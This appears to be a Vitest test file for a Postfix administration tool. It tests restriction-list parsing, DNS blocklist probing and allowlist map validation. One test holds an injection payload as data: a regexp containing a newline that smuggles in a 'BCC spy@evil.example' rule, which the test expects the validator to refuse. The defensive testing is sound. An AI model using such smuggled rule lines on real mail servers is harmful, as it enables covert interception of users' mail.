import { describe, expect, it } from 'vitest';
import { ALLOW_CIDR_MAP, ALLOW_REGEXP_MAP, assertAllowEntries, buildAllowMaps, checkRegexpPattern } from '../../../main/services/inbound/allowMap.js';
import { classifyBlocklist, probeNames } from '../../../main/services/inbound/blocklists.js';
import { allowRestrictions, applyHostnameRule, currentHostnameRule, findBlocklists, parseRestrictions, removeBlocklists } from '../../../main/services/inbound/restrictions.js';
import type { BlocklistUse } from '../../../shared/inbound.js';

const manual = 'permit_mynetworks, check_client_access regexp:/etc/postfix/smtpd_client_regexp reject_rbl_client all.rbl.jp, reject_rbl_client zen.spamhaus.org=127.0.0.[2..11], reject_rbl_client bl.spamcop.net, reject_unknown_reverse_client_hostname, permit';

describe('restriction lists', () => {
  it('keeps restrictions and their arguments together', () => {
    expect(parseRestrictions(manual).map((r) => r.argument === null ? r.name : `${r.name}(${r.argument})`)).toEqual([
      'permit_mynetworks',
      'check_client_access(regexp:/etc/postfix/smtpd_client_regexp)',
      'reject_rbl_client(all.rbl.jp)',
      'reject_rbl_client(zen.spamhaus.org=127.0.0.[2..11])',
      'reject_rbl_client(bl.spamcop.net)',
      'reject_unknown_reverse_client_hostname',
      'permit',
    ]);
  });

  it('finds the lists in use, in every restriction parameter and postscreen', () => {
    const uses = findBlocklists({ smtpd_client_restrictions: manual, smtpd_sender_restrictions: 'reject_rhsbl_sender dbl.spamhaus.org', postscreen_dnsbl_sites: 'zen.spamhaus.org*3, b.barracudacentral.org*2' });
    expect(uses.map((u) => `${u.parameter}:${u.kind}:${u.zone}`)).toEqual([
      'smtpd_client_restrictions:reject_rbl_client:all.rbl.jp',
      'smtpd_client_restrictions:reject_rbl_client:zen.spamhaus.org',
      'smtpd_client_restrictions:reject_rbl_client:bl.spamcop.net',
      'smtpd_sender_restrictions:reject_rhsbl_sender:dbl.spamhaus.org',
      'postscreen_dnsbl_sites:postscreen_dnsbl_sites:zen.spamhaus.org',
      'postscreen_dnsbl_sites:postscreen_dnsbl_sites:b.barracudacentral.org',
    ]);
  });

  it('removes dead lists and nothing else', () => {
    expect(removeBlocklists('smtpd_client_restrictions', manual, new Set(['all.rbl.jp', 'zen.spamhaus.org']))).toBe(
      'permit_mynetworks, check_client_access regexp:/etc/postfix/smtpd_client_regexp, reject_rbl_client bl.spamcop.net, reject_unknown_reverse_client_hostname, permit',
    );
    expect(removeBlocklists('postscreen_dnsbl_sites', 'zen.spamhaus.org*3, b.barracudacentral.org*2', new Set(['zen.spamhaus.org']))).toBe('b.barracudacentral.org*2');
  });

  it('puts the allowlist and the strict rule after the permits and before the lists', () => {
    const options = { strict: true, allow: allowRestrictions({ regexp: ALLOW_REGEXP_MAP, cidr: null }), ourMaps: [ALLOW_REGEXP_MAP, ALLOW_CIDR_MAP] };
    const edit = applyHostnameRule(manual, options);
    expect(edit.value).toBe(
      'permit_mynetworks, check_client_access regexp:/etc/postfix/smtpd_client_regexp, check_reverse_client_hostname_access regexp:/etc/postfix/homemail_client_allow, reject_unknown_client_hostname, reject_rbl_client all.rbl.jp, reject_rbl_client zen.spamhaus.org=127.0.0.[2..11], reject_rbl_client bl.spamcop.net, permit',
    );
    expect(edit.changed).toBe(true);
    expect(applyHostnameRule(edit.value, options)).toEqual({ value: edit.value, changed: false });
    // the allowlist grows an address table: the old entry is replaced, not duplicated
    const both = applyHostnameRule(edit.value, { ...options, allow: allowRestrictions({ regexp: ALLOW_REGEXP_MAP, cidr: ALLOW_CIDR_MAP }) });
    expect(both.value.match(/homemail_client_allow/g)).toHaveLength(2);
    expect(both.value).toContain('check_client_access cidr:/etc/postfix/homemail_client_allow.cidr, check_reverse_client_hostname_access regexp:/etc/postfix/homemail_client_allow, reject_unknown_client_hostname');
    // with the names table carrying the rule, the rule is not repeated in the list
    const inMap = applyHostnameRule(manual, { ...options, ruleInMap: true });
    expect(inMap.value).not.toContain('reject_unknown_client_hostname');
    expect(inMap.value).not.toContain('reject_unknown_reverse_client_hostname');
    expect(currentHostnameRule({ smtpd_client_restrictions: edit.value })).toEqual({ rule: 'strict', parameter: 'smtpd_client_restrictions' });
  });

  it('starts an empty client list with the trusted permits', () => {
    expect(applyHostnameRule(undefined, { strict: true, allow: allowRestrictions({ regexp: null, cidr: ALLOW_CIDR_MAP }), ourMaps: [ALLOW_CIDR_MAP] }).value).toBe(
      'permit_mynetworks, permit_sasl_authenticated, check_client_access cidr:/etc/postfix/homemail_client_allow.cidr, reject_unknown_client_hostname',
    );
  });
});

describe('blocklist probes', () => {
  const ipList: BlocklistUse = { parameter: 'smtpd_client_restrictions', kind: 'reject_rbl_client', zone: 'bl.example', text: 'reject_rbl_client bl.example' };
  const domainList: BlocklistUse = { parameter: 'smtpd_sender_restrictions', kind: 'reject_rhsbl_sender', zone: 'dbl.example', text: '' };
  const probe = (name: string, status: string, answers: string[] = []) => ({ name, status, answers });

  it('uses the RFC 5782 test entries', () => {
    expect(probeNames(ipList)).toEqual({ listed: '2.0.0.127.bl.example', unlisted: '1.0.0.127.bl.example' });
    expect(probeNames(domainList)).toEqual({ listed: 'test.dbl.example', unlisted: 'invalid.dbl.example' });
  });

  it('tells working, dead, wildcard, refusing and silent lists apart', () => {
    const status = (listed: ReturnType<typeof probe>, unlisted: ReturnType<typeof probe>) => classifyBlocklist(ipList, listed, unlisted);
    expect(status(probe('l', 'NOERROR', ['127.0.0.2']), probe('u', 'NXDOMAIN'))).toMatchObject({ status: 'working', remove: false });
    expect(status(probe('l', 'NXDOMAIN'), probe('u', 'NXDOMAIN'))).toMatchObject({ status: 'not-listing', remove: true });
    expect(status(probe('l', 'NOERROR', ['127.0.0.2']), probe('u', 'NOERROR', ['127.0.0.2']))).toMatchObject({ status: 'lists-everything', remove: true });
    const refused = status(probe('l', 'NOERROR', ['127.255.255.254']), probe('u', 'NOERROR', ['127.255.255.254']));
    expect(refused).toMatchObject({ status: 'refused', remove: true });
    expect(refused.text).toMatch(/own resolver/);
    expect(refused.text).toMatch(/DQS/);
    expect(status(probe('l', 'SERVFAIL'), probe('u', 'SERVFAIL'))).toMatchObject({ status: 'no-answer', remove: true });
    expect(status(probe('l', 'TIMEOUT'), probe('u', 'NXDOMAIN')).status).toBe('no-answer');
  });
});

describe('allowlist maps', () => {
  it('writes names, patterns and networks into the right tables', () => {
    const maps = buildAllowMaps([
      { kind: 'name', value: 'mail.Partner.example', comment: 'partner mail' },
      { kind: 'name', value: '.dyn.example' },
      { kind: 'regexp', value: '/^smtp[0-9]+\\.isp\\.example$/' },
      { kind: 'address', value: '198.51.100.0/24' },
      { kind: 'address', value: '2001:db8::5' },
    ]);
    expect(maps.problems).toEqual([]);
    expect(maps.regexp).toContain('# partner mail\n/^mail\\.partner\\.example$/ DUNNO\n');
    expect(maps.regexp).toContain('/(^|\\.)dyn\\.example$/ DUNNO\n');
    expect(maps.regexp).toContain('/^smtp[0-9]+\\.isp\\.example$/ DUNNO\n');
    expect(maps.regexp?.trimEnd().split('\n').at(-1)).toBe('/./ reject_unknown_client_hostname');
    expect(maps.regexp).not.toMatch(/ OK$/m);
    expect(maps.cidr).toContain('198.51.100.0/24 OK\n2001:db8::5/128 OK\n');
    expect(maps.probes).toEqual([
      { map: ALLOW_REGEXP_MAP, value: 'mail.partner.example', expect: 'DUNNO' },
      { map: ALLOW_REGEXP_MAP, value: 'host.dyn.example', expect: 'DUNNO' },
      { map: ALLOW_CIDR_MAP, value: '198.51.100.0', expect: 'OK' },
      { map: ALLOW_CIDR_MAP, value: '2001:db8::5', expect: 'OK' },
      { map: ALLOW_REGEXP_MAP, value: 'unknown', expect: 'reject_unknown_client_hostname' },
    ]);
    expect(buildAllowMaps([{ kind: 'name', value: 'a.example' }], 'reject_unknown_reverse_client_hostname').regexp).toMatch(/\/\.\/ reject_unknown_reverse_client_hostname\n$/);
  });

  it('refuses what Postfix would not read, naming the entry', () => {
    expect(checkRegexpPattern('^mail')?.text).toMatch(/\/pattern\//);
    expect(checkRegexpPattern('/(?=x)mail/')?.text).toMatch(/POSIX/);
    expect(checkRegexpPattern('/\\d+/')?.text).toMatch(/\[0-9\]/);
    expect(checkRegexpPattern('/mail(/')?.text).toMatch(/not a valid/);
    expect(checkRegexpPattern('/.*/')?.text).toMatch(/every client/);
    expect(checkRegexpPattern('/^mx\\.example$/i')).toBeNull();
    const maps = buildAllowMaps([{ kind: 'address', value: '198.51.100.7/24' }, { kind: 'name', value: 'bad name!' }]);
    expect(maps.problems.map((p) => p.index)).toEqual([0, 1]);
    expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("198.51.100.7\/24"\) is refused:\nThe address has bits set beyond \/24/);
    expect(buildAllowMaps([{ kind: 'name', value: 'a.example\n/.*/ OK' }]).problems).toHaveLength(1);
  });

  it('refuses a newline inside /…/ (it would write a rule line of its own) and comments with control characters', () => {
    // The reviewed attack: the pattern's newline started a `|.| BCC spy@evil.example` line.
    const injected = '/^a\n|.| BCC spy@evil.example\n/';
    expect(checkRegexpPattern(injected)?.text).toMatch(/control character U\+000A/);
    const maps = buildAllowMaps([{ kind: 'regexp', value: injected }]);
    expect(maps.regexp).toBeNull();
    expect(() => assertAllowEntries(maps)).toThrow(/allow entry 1 \("\/\^a\\u\{a\}\|\.\| BCC/);
    for (const char of ['\r', '\u0085', '\u2028', '\u2029', '\u001b', '\u0000', '\t']) {
      expect(checkRegexpPattern(`/^mx${char}1$/`)?.text, JSON.stringify(char)).toMatch(/control character/);
      expect(buildAllowMaps([{ kind: 'name', value: 'mx.example', comment: `a${char}b` }]).problems, JSON.stringify(char)).toHaveLength(1);
    }
  });

  it('refuses a "{" Postfix would not read as a repetition count (the line would be skipped with a warning)', () => {
    for (const pattern of ['/${IFS}/', '/^{2}mx/', '/mx{/', '/mx{a}/', '/(|{2})x/', '/mx{1,2/']) expect(checkRegexpPattern(pattern)?.text, pattern).toMatch(/"\{"/);
    for (const pattern of ['/^mx[0-9]{1,3}\\.example$/', '/^mx\\{x\\}$/', '/^[{}]x$/', '/^[[:digit:]{]+x$/']) expect(checkRegexpPattern(pattern), pattern).toBeNull();
  });

  it('refuses what the host harness found Postfix reads otherwise: the x flag, "]" first in brackets, backslashes in brackets, odd ranges, other characters', () => {
    // Each was accepted by JavaScript and warned about (line skipped) by the test host's postmap.
    for (const pattern of ['/\\)$/x', '/[]^--/i', '/\\**:\\[-[]/', '/[]/x', '/.]+|\\{+\\}*/x', '/^[\\.]x$/', '/^[z-a]x$/', '/^[[:word:]]x$/', '/^mx x$/', "/^mx'$/", '/^é$/', '/^\\w+x$/']) {
      expect(checkRegexpPattern(pattern), pattern).not.toBeNull();
    }
    for (const pattern of ['/^mx[0-9]+\\.example\\.net$/i', '/^(mx|smtp)-[a-z0-9]{1,3}\\.isp\\.example$/', '/^[^.]+\\.dyn\\.example$/m']) expect(checkRegexpPattern(pattern), pattern).toBeNull();
  });

  it('refuses patterns matching "unknown", which would switch the host-name rule off', () => {
    for (const pattern of ['/unk/', '/^[a-z]+$/', '/n/i', '/^(mx1|unknown)$/']) expect(checkRegexpPattern(pattern)?.text, pattern).toMatch(/unknown/);
    expect(checkRegexpPattern('/^mx[0-9]+\\.example\\.net$/')).toBeNull();
  });
});
